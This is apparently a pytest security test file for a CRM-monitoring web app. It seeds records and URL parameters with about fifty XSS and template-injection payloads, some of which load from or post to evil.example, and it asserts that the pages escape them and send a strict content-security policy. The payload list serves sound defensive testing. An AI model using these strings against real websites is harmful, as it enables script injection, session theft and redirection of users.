"""S27: whatever a CRM, or an address, has for names: it is text on every page, and nothing else."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest
import sqlalchemy as sa

from stalewatch.services.measuring.kpi_keeping import Keeping
from stalewatch.store.tables import deliveries, destinations, notices
from stalewatch.web.pace import Rates
from tests import databases
from tests.altered import replace
from tests.services.world import SATO, TANAKA, World, at, deal, rulebook
from tests.web.dom import Element
from tests.web.office import Office
from tests.web.pack import RULES
from tests.web.visits import Visitor

pytestmark = pytest.mark.security

ATTACKS: Final = tuple(
    """
<script>alert(1)</script>|<img src=x onerror=alert(1)>|"><script>alert(1)</script>|'><svg onload=alert(1)>|
</title><script>alert(1)</script>|</style><script>alert(1)</script>|</textarea><script>alert(1)</script>|
<svg/onload=alert(1)>|<body onload=alert(1)>|<iframe src=javascript:alert(1)>|<a href=javascript:alert(1)>x</a>|
" onmouseover="alert(1)|' onmouseover='alert(1)|" autofocus onfocus=alert(1) x="|x onclick=alert(1)|
javascript:alert(1)|JaVaScRiPt:alert(1)|data:text/html,<script>alert(1)</script>|vbscript:msgbox(1)|//evil.example|
<scr<script>ipt>alert(1)</script>|<<script>alert(1)//<</script>|<SCRIPT SRC=//evil.example></SCRIPT>|
<math><mtext></mtext><script>alert(1)</script>|<details open ontoggle=alert(1)>|<form action=//evil.example>|
<input onfocus=alert(1) autofocus>|<meta http-equiv=refresh content=0;url=//evil.example>|<base href=//evil.example>|
<link rel=stylesheet href=//evil.example>|<object data=javascript:alert(1)>|<embed src=javascript:alert(1)>|
<video><source onerror=alert(1)>|<marquee onstart=alert(1)>|<style>*{background:url(//evil.example)}</style>|
<!--><script>alert(1)</script>-->|]]><script>alert(1)</script>|<![CDATA[<script>alert(1)</script>]]>|
&lt;script&gt;alert(1)&lt;/script&gt;|&#60;script&#62;alert(1)&#60;/script&#62;|\\u003cscript\\u003ealert(1)|
{{7*7}}{{config}}|{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}|{# x #}|${7*7}|{name}{0}|%(x)s%s|
\u202e<script>alert(1)</script>|\uff1cscript\uff1ealert(1)\uff1c/script\uff1e|<\u200bscript>alert(1)</script>|
<svg><animate onbegin=alert(1) attributeName=x>|</svg><script>alert(1)</script>|<x:script xmlns:x=x>alert(1)</x:script>
""".replace("\n", "").split("|")
)
PLAIN: Final = tuple(f"Plain name {number}" for number in range(len(ATTACKS)))


def company(path: Path, template: Path, texts: tuple[str, ...]) -> World:
    """A company that writes these into every field that somebody can write into."""
    path.write_bytes(template.read_bytes())
    world = World(databases.opened(f"sqlite:///{path}"), rulebook(RULES))
    world.crm.people = [
        replace(SATO, name=texts[0], team=texts[1]),
        TANAKA,
    ]
    world.has(
        *(
            replace(
                deal(f"d{number}", created_at=at("2026-03-02 10:00" if number % 2 else "2026-03-30 10:00"),
                     team=text, next_step=text, pain=text),
                name=text,
                url=text if text.startswith(("java", "Java", "JaVa", "data", "vb", "//")) else "https://crm.example/x",
            )
            for number, text in enumerate(texts)
        )
    )  # fmt: skip
    world.reaches("2026-04-01 12:00")
    assert Keeping(world.db, world.clock, world.book, {"crm": None}).run().last is not None
    goes_astray(world, texts)
    return world


def goes_astray(world: World, texts: tuple[str, ...]) -> None:
    """What was told reached nobody after all: places, and the words of a service, are from outside as well."""
    with world.db.write() as conn:
        conn.execute(sa.update(deliveries).values(state="dead", error=texts[2], target=f"channel:{texts[3]}"))
        keys = [row.key for row in conn.execute(sa.select(notices.c.key).order_by(notices.c.record_id))]
        assert len(keys) > 20
        for number, key in enumerate(keys):
            there = sa.update(notices).where(notices.c.key == key)
            if number < 5:
                conn.execute(there.values(state="claimed"))
            else:
                nowhere = "undelivered" if number % 2 else f"channel:{texts[number]}"
                conn.execute(there.values(state="held", reason="nobody_left", target=nowhere))
        conn.execute(sa.insert(destinations).values(target=texts[4], parked_at=1))


@pytest.fixture(scope="module")
def companies(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Visitor, Visitor]]:
    """One with attacks for names, and its twin with names."""
    folder = tmp_path_factory.mktemp("companies")
    worlds = [company(folder / f"{n}.db", sqlite_template, texts) for n, texts in enumerate((ATTACKS, PLAIN))]
    scopes = ("deals:read", "reports:read", "rules:read", "alerts:read")
    evil, plain = (Visitor(Office.of(world, *scopes)) for world in worlds)
    for one in (evil, plain):
        one.office.app.state.rates = Rates(0)  # hundreds of attacks a minute
    with pytest.MonkeyPatch.context() as patched:
        for asked in ("figures", "pages.rule", "pages.rules", "pages.connections"):  # who still counts says so
            patched.setattr(f"stalewatch.web.{asked}.PATIENCE", 30.0)
        yield evil, plain
    for world in worlds:
        world.db.dispose()


def without_links(page: Element) -> list[tuple[str, tuple[str, ...]]]:
    """The structure without the links to the CRM: an address that is not one is no link."""
    foreign = {id(inner) for one in page.all("a", target="_blank") for inner in (one, *one.all())}
    return [(one.tag, tuple(sorted(one.attributes))) for one in page.all() if id(one) not in foreign]


def addresses(page: Element) -> set[str]:
    harmless = ("/", "width=", "light dark", "#", '{"allowEval":false')
    return {one for one in page.addresses() if not one.startswith(harmless)}


def test_s27_there_are_fifty_strings() -> None:
    assert len(set(ATTACKS)) >= 50


@pytest.mark.parametrize(
    "path",
    [
        *("/", "/stalled?limit=200", "/due-soon?within=60d&limit=200", "/stalled?lang=ja&limit=200", "/undelivered"),
        *("/rules", "/rules/no-next-meeting", "/rules/too-old?lang=ja", "/connections"),
        *("/hygiene", "/hygiene?group=owner&show=speed&lang=ja"),
        *("/forecast?limit=200", "/unobserved?limit=200", "/review", "/review?period=monthly"),
    ],
)
def test_s27_lists_have_the_elements_of_lists_with_plain_names(companies: tuple[Visitor, Visitor], path: str) -> None:
    evil, plain = (visitor.page(path) for visitor in companies)
    assert without_links(evil) == without_links(plain)
    assert addresses(evil) <= {"https://crm.example/x"}


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_s27_a_records_page_has_the_elements_of_one_with_a_plain_name(
    companies: tuple[Visitor, Visitor], number: int
) -> None:
    evil, plain = (visitor.page(f"/deals/crm:d{number}") for visitor in companies)
    assert without_links(evil) == without_links(plain)
    assert addresses(evil) <= {"https://crm.example/x"}


@pytest.mark.parametrize("step", [5, pytest.param(1, marks=pytest.mark.slow)])
def test_s27_what_is_written_into_an_address_is_text_as_well(companies: tuple[Visitor, Visitor], step: int) -> None:
    """Every attack at some of the places, and at every place some; `make thorough`: all of them at all."""
    _, visitor = companies
    for number, (path, name, status) in enumerate((
        ("/stalled", "q", 200), ("/stalled", "owner", 200), ("/stalled", "rule", 200), ("/stalled", "sort", 422),
        ("/due-soon", "within", 422), ("/due-soon", "day", 422), ("/deals/crm:d1", "act", 200),
        ("/deals/crm:d1", "alert", 200), ("/sign-in", "next", 200), ("/stalled", "team", 200),
        ("/hygiene", "team", 200), ("/hygiene", "show", 422),
        ("/stalled", "next", 422), ("/forecast", "team", 200), ("/forecast", "period", 422), ("/review", "of", 422),
        ("/unobserved", "owner", 200), ("/unobserved", "next", 422), ("/review", "team", 200),
    )):  # fmt: skip
        usual = without_links(visitor.page(path, status, **{name: "zzz"}))
        for attack in ATTACKS[number % step : 30 : step]:
            page = visitor.page(path, status, **{name: attack})
            assert without_links(page) == usual, (path, name, attack)
            assert addresses(page) <= {"https://crm.example/x"}
    usual = without_links(visitor.page("/deals/zzz", 404))
    for attack in ATTACKS[:10]:
        assert without_links(visitor.page(f"/deals/{attack.replace('?', '').replace('#', '')}", 404)) == usual


def test_s27_pages_allow_nothing_inline_and_nothing_from_elsewhere(companies: tuple[Visitor, Visitor]) -> None:
    visitor, _ = companies
    for path in ("/", "/stalled", "/due-soon", "/deals/crm:d1", "/deals/x", "/sign-in", "/undelivered", "/hygiene",
                 "/forecast", "/unobserved", "/review"):  # fmt: skip
        answer = visitor.asks("GET", path)
        policy = answer.headers["content-security-policy"]
        assert {"default-src 'self'", "frame-ancestors 'none'", "object-src 'none'"} <= set(policy.split("; "))
        assert "unsafe" not in policy
        page = visitor.page(path, answer.status_code)
        assert not page.all("style")
        assert all("src" in one.attributes for one in page.all("script"))
        handlers = [name for one in page.all() for name in one.attributes if name.startswith("on") or name == "style"]
        assert handlers == []
